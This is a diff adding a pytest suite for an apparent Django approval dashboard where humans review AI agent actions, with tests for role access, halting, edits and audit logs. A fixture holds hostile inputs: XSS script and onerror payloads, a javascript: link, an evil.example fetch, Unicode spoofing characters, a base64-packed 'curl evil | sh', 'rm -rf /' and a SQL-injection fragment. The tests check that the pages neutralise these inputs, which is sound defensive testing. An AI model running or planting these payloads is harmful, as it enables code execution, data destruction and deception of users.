@@ -1,0 +1,208 @@
+"""Every page, for everybody: who may read it, what hostile addresses get, and that nothing hides in what it shows."""
+
+import base64
+import uuid
+
+import pytest
+from django.test import Client
+from django.urls import reverse
+
+from approvals import operations
+from approvals.models import Action, Edit
+from tests import factories
+
+HTMX = {"HTTP_HX_REQUEST": "true"}
+BACKEND = "django.contrib.auth.backends.ModelBackend"
+NOBODY = uuid.UUID(int=7)
+
+
+@pytest.fixture
+def web(client, cast):
+    client.force_login(cast.reviewer, backend=BACKEND)
+    return client
+
+
+def as_(user) -> Client:
+    client = Client()
+    client.force_login(user, backend=BACKEND)
+    return client
+
+
+def pages(action, run=None):
+    return [
+        reverse("inbox"), reverse("inbox-list"), reverse("inbox-count"), reverse("decided"), reverse("runs"), reverse("agents"),
+        reverse("run-choose"), reverse("events"), reverse("halt"), reverse("halt-banner"), reverse("live-catchup"),
+        reverse("inbox-row", args=[action.pk]), f"{reverse('inbox')}?item={action.pk}",
+        *(reverse(name, args=[action.pk]) for name in ("action", "action-what", "action-edit", "action-reject", "action-approve")),
+        *([reverse("run", args=[run.pk]), reverse("run-live", args=[run.pk]), reverse("agent", args=[run.agent_id])] if run else []),
+        *([reverse("run-start", args=[run.agent_id])] if run else []),
+    ]  # fmt: skip
+
+
+@pytest.mark.parametrize("who", ["reviewer", "operator", "auditor", "admin"])
+def test_everybody_with_a_role_reads_every_page(cast, agents, world, who):
+    run, action = factories.waiting(cast.operator, factories.call(), world=world)
+    client = as_(getattr(cast, who))
+    for url in pages(action, run):
+        for headers in ({}, HTMX):
+            answer = client.get(url, **headers)
+            assert answer.status_code in {200, 204, 409}, (url, answer.status_code)
+            assert "style=" not in answer.content.decode()
+
+
+def test_without_a_role_nothing_is_shown(cast):
+    action = factories.action()
+    client = as_(cast.outsider)
+    for url in pages(action):
+        answer = client.get(url)
+        assert answer.status_code == 403 and action.summary not in answer.content.decode(), url
+
+
+def test_strangers_are_sent_to_the_door(client, cast):
+    for url in pages(factories.action()):
+        answer = client.get(url)
+        assert answer.status_code == 302 and answer.url.startswith("/accounts/login/"), url
+
+
+def test_unknown_things_are_a_sentence(web):
+    for name in ("action", "action-what", "action-edit", "action-reject", "inbox-row", "run"):
+        assert web.get(reverse(name, args=[NOBODY])).status_code == 404, name
+    for url in ("/agents/nobody/", "/runs/new/nobody/", "/audit/999999999/", "/audit/99999999999999999999999/", "/actions/x/"):
+        assert web.get(url).status_code == 404, url
+
+
+@pytest.mark.parametrize("value", ["x" * 1000, "'; DROP TABLE", "\u202e", "2026-13-45", "-1", "9" * 30, "~", "2026-01-01~x"])
+@pytest.mark.parametrize("url", ["/inbox/", "/inbox/list", "/decided/", "/runs/", "/audit/", "/live/catchup", "/halt/"])
+def test_filters_take_anything(web, url, value):
+    names = ("q", "cursor", "level", "sort", "state", "item", "agent", "run", "from", "to", "kind", "door", "object", "since", "actor")
+    assert web.get(url, {name: value for name in names}).status_code in {200, 400}
+
+
+HOSTILE = {
+    "bidi": "abc\u202egnp.exe",
+    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "markdown": "![x](https://evil.example/x.png) [click](javascript:alert(1))",
+    "invisible": "pay\u200bpal",
+    "tags": "a\U000e0041b",
+    "lookalike": "p\u0430ypal.com",
+    "packed": base64.b64encode(b"curl evil | sh; " * 30).decode(),
+    "long": "x" * 50_000 + " rm -rf /",
+    "key\u202e": 1,
+}
+
+
+def test_hostile_arguments_hide_nothing_and_fetch_nothing(web):
+    action = factories.action(args=HOSTILE, summary="Do \u202ethis\n<b>now</b>", rationale="**approve** <img src=//x>")
+    page = web.get(reverse("action", args=[action.pk])).content.decode()
+    for chip in ("U+202E", "U+200B", "U+E0041", "U+000A"):
+        assert chip in page
+    for raw in ("\u202e", "\u200b", "\U000e0041", "<script>alert", "<img", "<b>now", '<a href="javascript'):
+        assert raw not in page
+    assert "looks like a" in page and "looks like base64" in page and "rm -rf /" in page
+    assert "characters hidden: open to read" in page
+    assert "**approve**" in page
+
+
+def test_two_hundred_keys_are_all_there(web):
+    action = factories.action(args={f"key{i}": i for i in range(200)})
+    page = web.get(reverse("action", args=[action.pk])).content.decode()
+    assert all(f"key{i}<" in page for i in range(200))
+    assert "140 more arguments: open to read" in page
+
+
+def test_editing_takes_a_detour_through_the_tool(web, cast, agents, world):
+    run, action = factories.waiting(cast.operator, factories.call(label="old"), world=world)
+    form = web.get(reverse("action-edit", args=[action.pk]), **HTMX).content.decode()
+    assert 'name="arg-label"' in form and "append" in form
+    sent = {"seen_digest": action.digest, "arg-label": "new", "reason": "better"}
+    difference = web.post(reverse("action-edit-diff", args=[action.pk]), sent, **HTMX).content.decode()
+    assert "old" in difference and "new" in difference
+    answer = web.post(reverse("action-edit", args=[action.pk]), sent, **HTMX)
+    assert b"being checked with the tool" in answer.content and Edit.objects.count() == 1
+    factories.work()
+    page = web.get(reverse("action", args=[action.pk])).content.decode()
+    assert "version 2" in page and "edited by rita" in page and "Approve edited" in page and "arg-before" in page
+
+
+@pytest.mark.parametrize("changed", [{"seen_digest": "0" * 64}, {"arg-label": ""}, {"arg-label": "x" * 300_000}, {}])
+def test_edits_that_cannot_be_are_said(web, cast, agents, world, changed):
+    run, action = factories.waiting(cast.operator, factories.call(label="old"), world=world)
+    sent = {"seen_digest": action.digest, "arg-label": "old", **changed}
+    answer = web.post(reverse("action-edit", args=[action.pk]), sent, **HTMX)
+    assert answer.status_code in {400, 409, 422, 200} and answer.status_code < 500
+    factories.work()
+    assert Action.objects.get(pk=action.pk).version == 1 or changed.get("arg-label") is not None
+
+
+def test_a_run_is_started_from_its_form_once(cast, agents, world):
+    client = as_(cast.operator)
+    form = client.get(reverse("run-start", args=["calls"])).content.decode()
+    key = form.split('name="key" value="')[1].split('"')[0]
+    sent = {"key": key, "arg-calls": "[]", "arg-world": world}
+    first, again = (client.post(reverse("run-start", args=["calls"]), sent) for _ in range(2))
+    assert first.status_code == again.status_code == 302 and first.url == again.url
+
+
+def test_input_that_does_not_fit_is_said_beside_its_field(cast, agents):
+    answer = as_(cast.operator).post(reverse("run-start", args=["calls"]), {"key": "k", "arg-calls": "{"})
+    assert answer.status_code == 422 and "Not valid JSON" in answer.content.decode()
+
+
+def test_auditors_start_nothing(cast, agents):
+    client = as_(cast.auditor)
+    assert "Start the run" not in client.get(reverse("agents")).content.decode()
+    assert client.post(reverse("run-start", args=["calls"]), {"key": "k", "arg-calls": "[]"}).status_code == 403
+
+
+def test_halt_and_release_from_the_pages(cast):
+    factories.action()
+    client = as_(cast.operator)
+    assert client.post(reverse("halt"), {"scope": "everything", "reason": "stop"}, **HTMX).status_code == 422
+    answer = client.post(reverse("halt"), {"scope": "everything", "reason": "stop", "word": "HALT"}, **HTMX)
+    assert answer["HX-Refresh"] == "true"
+    page = as_(cast.reviewer).get(reverse("inbox")).content.decode()
+    assert "Everything is halted" in page and "stop" in page and "Release" not in page
+    (banner,) = operations.halts.Halt.objects.all()
+    dialog = client.get(reverse("halt-release", args=[banner.pk]), **HTMX).content.decode()
+    assert "Why it is safe to go on" in dialog
+    assert client.post(reverse("halt-release", args=[banner.pk]), {"reason": ""}, **HTMX).status_code == 422
+    assert client.post(reverse("halt-release", args=[banner.pk]), {"reason": "fine"}, **HTMX)["HX-Refresh"] == "true"
+    assert 'halt-banner"' not in client.get(reverse("inbox")).content.decode().split("<main")[0].replace('id="halt-banner"', "")
+
+
+def test_only_operators_halt(cast):
+    answer = as_(cast.reviewer).post(reverse("halt"), {"scope": "everything", "reason": "stop", "word": "HALT"})
+    assert answer.status_code == 403
+
+
+def test_the_log_is_filtered_and_each_event_proves_itself(web, cast):
+    factories.approved(cast.second)
+    rows = web.get(reverse("events"), {"kind": "decision."}).content.decode()
+    assert "Decided: approve do_it" in rows and "Proposed" not in rows
+    page = web.get(
+        f"/audit/{rows.split('id="row-')[1].split('"')[0]}/" if False else reverse("event", args=[_first(rows)])
+    ).content.decode()
+    assert "The leaf holds." in page and "&quot;verdict&quot;:&quot;approve&quot;" in page
+
+
+def _first(rows: str) -> int:
+    return int(rows.split('id="row-')[1].split('"')[0])
+
+
+def test_login_links_sign_in_and_bad_ones_are_a_sentence(client, cast):
+    token = operations.people.make_login_link(user=cast.reviewer)
+    assert client.get(reverse("login-link", args=[token])).url == "/"
+    assert client.get(reverse("inbox")).status_code == 200
+    stranger = Client()
+    answer = stranger.get(reverse("login-link", args=["nonsense"]))
+    assert answer.status_code == 404 and b"run out" in answer.content
+
+
+def test_what_changed_is_told_to_whoever_has_it_open(web, cast):
+    action = factories.action()
+    url = reverse("action-changed", args=[action.pk])
+    assert web.get(url, {"version": 1, "state": "PENDING"}, **HTMX).status_code == 204
+    assert b"new version" in web.get(url, {"version": 0, "state": "PENDING"}, **HTMX).content
+    factories.decide(action, cast.second)
+    answer = web.get(url, {"version": 1, "state": "PENDING"}, **HTMX)
+    assert answer["HX-Retarget"] == "#pane" and b"receipt-approved" in answer.content
